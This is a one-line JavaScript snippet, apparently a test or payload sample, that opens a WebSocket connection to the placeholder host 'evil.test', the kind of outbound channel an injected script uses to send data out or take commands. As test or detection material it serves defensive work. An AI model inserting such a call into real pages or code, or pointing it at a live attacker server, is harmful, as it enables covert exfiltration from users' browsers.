new WebSocket("ws://evil.test")
